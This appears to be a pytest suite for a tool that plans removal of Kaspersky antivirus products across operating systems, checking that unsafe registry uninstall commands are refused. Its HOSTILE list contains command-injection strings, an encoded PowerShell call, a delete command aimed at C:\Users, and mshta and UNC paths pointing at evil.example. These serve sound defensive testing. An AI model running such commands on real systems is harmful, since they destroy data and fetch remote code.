"""The uninstall plan: what would run, what never runs, and when it must not start."""

from __future__ import annotations

import json

import pytest
from conftest import run_cli

from core.backup.plan import plan_backup
from core.detect.detection import detect
from core.detect.findings import UninstallEntry
from core.machine.demo import list_demos, load_demo
from core.machine.snapshot_read import load_snapshot
from core.uninstall.cmdline import split_windows_command
from core.uninstall.plan import MSIEXEC, Answers, plan_uninstall, rebuild_guid, validate_command

INSTALL = (r"C:\Program Files (x86)\Kaspersky Lab\Kaspersky Total Security 21.3",)
GOOD_EXE = INSTALL[0] + r"\uninstall.exe"


def _plan(demo: str, **answers: object):
    snapshot = load_demo(demo)
    detection = detect(snapshot)
    return plan_uninstall(snapshot, detection, plan_backup(detection), Answers(**answers))  # type: ignore[arg-type]


@pytest.mark.parametrize(("line", "argv"), [
    (r'"C:\Program Files\K\un.exe" /s', (r"C:\Program Files\K\un.exe", "/s")),
    (r'C:\K\un.exe a\\b "c d"', (r"C:\K\un.exe", r"a\\b", "c d")),
    (r'C:\K\un.exe "a \"q\" b"', (r"C:\K\un.exe", 'a "q" b')),
    (r'C:\K\un.exe a\\\"b', (r"C:\K\un.exe", 'a\\"b')),
    (r'C:\K\un.exe "a""b"', (r"C:\K\un.exe", 'a"b')),
    (r'"C:\path with\trailing\" x', ("C:\\path with\\trailing\\", "x")),
])
def test_command_lines_split_as_windows_splits_them(line: str, argv: tuple[str, ...]) -> None:
    split = split_windows_command(line)
    assert split.argv == argv and not split.unterminated


def test_a_quote_that_never_closes_is_reported() -> None:
    assert split_windows_command(r'"C:\K\un.exe /s').unterminated
    assert split_windows_command(r'C:\K\un.exe "/s').unterminated


def test_product_codes_are_rebuilt_not_copied() -> None:
    assert rebuild_guid("{6a0a3e5c-1a35-4d7e-9b3c-2d2b1d7c0f10}") == \
        "{6A0A3E5C-1A35-4D7E-9B3C-2D2B1D7C0F10}"
    assert rebuild_guid("{6A0A3E5C-1A35-4D7E-9B3C-2D2B1D7C0F10} & calc") is None
    assert rebuild_guid("not a guid") is None


def test_every_demo_machine_gets_a_plan_ending_in_verification() -> None:
    for demo in list_demos():
        plan = _plan(demo.name, backup_done=True)
        assert plan.steps[-1].kind == "verify", demo.name
        for step in plan.steps:
            if step.kind == "remove":
                assert step.argv and step.needs_admin and step.timeout > 0, step.id
                assert step.program is not None and step.program.startswith(("/", "C:\\"))


def test_windows_msi_products_use_msiexec_with_components_first() -> None:
    plan = _plan("windows-kaspersky-plus-vpn", backup_done=True)
    removals = [s for s in plan.steps if s.kind == "remove"]
    assert [s.product_id for s in removals] == ["kaspersky-vpn-secure-connection",
                                                "kaspersky-standard-plus-premium"]
    assert all(s.program == MSIEXEC and s.args[0] == "/x" for s in removals)
    assert plan.protection_after.state == "defender"


def test_business_removes_endpoint_security_before_its_agent() -> None:
    plan = _plan("windows-endpoint-security", backup_done=True)
    removals = [s.product_id for s in plan.steps if s.kind == "remove"]
    assert removals == ["kaspersky-endpoint-security-windows", "kaspersky-network-agent-windows"]


def test_linux_uses_the_package_manager_and_needs_an_acknowledgement() -> None:
    plan = _plan("linux-kesl", backup_done=True)
    (removal,) = [s for s in plan.steps if s.kind == "remove"]
    assert removal.argv == ("/usr/bin/apt-get", "remove", "-y", "kesl-gui", "kesl")
    assert plan.leaves_unprotected
    assert [s.id for s in plan.blocked_by] == ["check:protection"]
    accepted = _plan("linux-kesl", backup_done=True, accept_unprotected=True)
    assert not accepted.blocked_by and accepted.leaves_unprotected


def test_mac_runs_kaspersky_s_own_script_through_the_system_prompt() -> None:
    plan = _plan("macos-kaspersky", backup_done=True)
    (removal,) = [s for s in plan.steps if s.kind == "remove"]
    assert removal.program == "/usr/bin/osascript"
    assert "with administrator privileges" in removal.args[1]
    assert "codesign:2Y8XE5CQ94:/Applications/Kaspersky Anti-Virus For Mac.app" in removal.checks
    assert plan.protection_after.state == "xprotect" and not plan.leaves_unprotected


def test_vaults_passwords_and_backup_block_until_confirmed() -> None:
    plan = _plan("windows-total-security")
    assert {s.id for s in plan.blocked_by} == {"check:backup", "check:password-manager",
                                               "check:vault", "check:backup-tasks"}
    ready = _plan("windows-total-security", skip_backup=True,
                  confirmed=frozenset({"password-manager", "vault", "backup-tasks"}))
    assert not ready.blocked_by


@pytest.mark.parametrize(("machine", "says"), [
    ("windows-defender-policy-off.json", "policy"),
    ("windows-server-kes.json", "Windows Server"),
])
def test_defender_that_will_not_come_back_leaves_the_machine_unprotected(machine: str,
                                                                         says: str) -> None:
    snapshot = load_snapshot(f"tests/machines/{machine}")
    plan = plan_uninstall(snapshot, detect(snapshot))
    assert plan.leaves_unprotected and says in plan.protection_after.text


HOSTILE = [
    ("injection with &", GOOD_EXE + " /s & calc.exe", "“&”"),
    ("injection with |", GOOD_EXE + " | powershell -nop", "“|”"),
    ("cmd /c", r'C:\Windows\System32\cmd.exe /c "' + GOOD_EXE + '"', "cmd.exe"),
    ("cmd without path", "cmd /c del /q C:\\Users", "full path"),
    ("encoded PowerShell", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe "
                           "-EncodedCommand ZQBjAGgAbwA=", "powershell.exe"),
    ("rundll32", r"C:\Windows\System32\rundll32.exe shell32.dll,ShellExec_RunDLL calc",
     "rundll32.exe"),
    ("script host", r"C:\Windows\System32\wscript.exe C:\ProgramData\x.vbs", "wscript.exe"),
    ("mshta", r"C:\Windows\System32\mshta.exe http://evil.example/x.hta", "mshta.exe"),
    ("user-writable", r"C:\Users\dana\AppData\Local\Temp\uninstall.exe /s", "write to"),
    ("UNC", r"\\evil.example\share\uninstall.exe", "UNC"),
    ("relative", r"uninstall.exe /s", "full path"),
    ("environment variable", r"%TEMP%\uninstall.exe", "“%”"),
    ("unclosed quote", '"' + GOOD_EXE + ' /s', "does not close"),
    ("climbs out", '"' + INSTALL[0] + r'\..\..\..\Windows\System32\calc.exe"', "“..”"),
    ("not an exe", INSTALL[0] + r"\uninstall.bat", ".exe"),
    ("outside install folder", r'"C:\Program Files\Other Vendor\uninstall.exe"',
     "install folder"),
    ("unquoted path with spaces", GOOD_EXE + " /s", "no quotes"),
    ("redirect", GOOD_EXE + " > C:\\Windows\\win.ini", "“>”"),
    ("line break", GOOD_EXE + "\r\ncalc.exe", "line break"),
    ("caret escape", GOOD_EXE + " ^calc", "“^”"),
    ("backtick", GOOD_EXE + " `calc`", "“`”"),
    ("encoded argument", f'"{GOOD_EXE}" -enc ZQBjAGgAbwA=', "another command"),
]


@pytest.mark.parametrize(("label", "command", "why"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_uninstall_commands_are_never_planned_to_run(label: str, command: str,
                                                             why: str) -> None:
    argv, reason = validate_command(command, INSTALL)
    assert argv is None and why in reason, reason


def test_a_good_command_inside_the_install_folder_is_accepted_as_a_list() -> None:
    argv, _ = validate_command(f'"{GOOD_EXE}" /uninstall /s', INSTALL)
    assert argv == (GOOD_EXE, "/uninstall", "/s")


@pytest.mark.parametrize(("label", "command", "why"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_entries_become_manual_steps_with_the_reason(label: str, command: str,
                                                             why: str) -> None:
    snapshot = load_demo("windows-total-security")
    detection = detect(snapshot)
    product = next(p for p in detection.products if p.id == "kaspersky-total-security")
    entry = UninstallEntry(key=r"HKLM\...\Uninstall\KTS", display_name=product.name,
                           version=product.version, publisher="Kaspersky",
                           install_location=INSTALL[0], uninstall_string=command,
                           quiet_uninstall_string=command, windows_installer=False)
    hostile = detection._replace(products=(product._replace(uninstall_entries=(entry,)),))
    plan = plan_uninstall(snapshot, hostile, answers=Answers(skip_backup=True, quiet=True))
    (step,) = [s for s in plan.steps if s.product_id == product.id]
    assert step.kind == "manual" and not step.argv
    assert "kavremover" in step.description and "CAPTCHA" in step.description
    assert step.refused and "will not run it" in step.refused


def test_an_msi_entry_with_extra_text_is_not_trusted_as_msi() -> None:
    snapshot = load_demo("windows-total-security")
    detection = detect(snapshot)
    product = detection.products[0]
    entry = UninstallEntry(key=r"HKLM\...\Uninstall\NotAGuid", display_name=product.name,
                           version=None, publisher="Kaspersky", install_location=None,
                           uninstall_string="MsiExec.exe /X{6A0A3E5C-1A35-4D7E-9B3C-2D2B1D7C0F10}"
                                            " & calc", quiet_uninstall_string=None,
                           windows_installer=True)
    odd = detection._replace(products=(product._replace(uninstall_entries=(entry,)),))
    step = next(s for s in plan_uninstall(snapshot, odd).steps if s.product_id == product.id)
    assert step.kind == "manual"


def test_ultraav_is_offered_never_imposed() -> None:
    kept = _plan("windows-after-ultraav")
    offer = next(s for s in kept.steps if s.id == "offer:ultraav")
    assert "your choice" in offer.description and not offer.argv
    removing = _plan("windows-after-ultraav", remove_ultraav=True)
    assert "own uninstallers" in next(s for s in removing.steps
                                      if s.id == "offer:ultraav").description


def test_cli_dry_run_json_and_exit_4_when_unprotected() -> None:
    done = run_cli("uninstall", "--demo", "linux-kesl", "--dry-run", "--json")
    assert done.returncode == 4
    data = json.loads(done.stdout)
    assert data["outcome"] == "planned" and data["leaves_unprotected"]
    remove = next(s for s in data["steps"] if s["kind"] == "remove")
    assert remove["argv"][0] == "/usr/bin/apt-get"
    fine = run_cli("uninstall", "--demo", "windows-total-security", "--dry-run")
    assert fine.returncode == 0 and "Nothing was changed" in fine.stdout
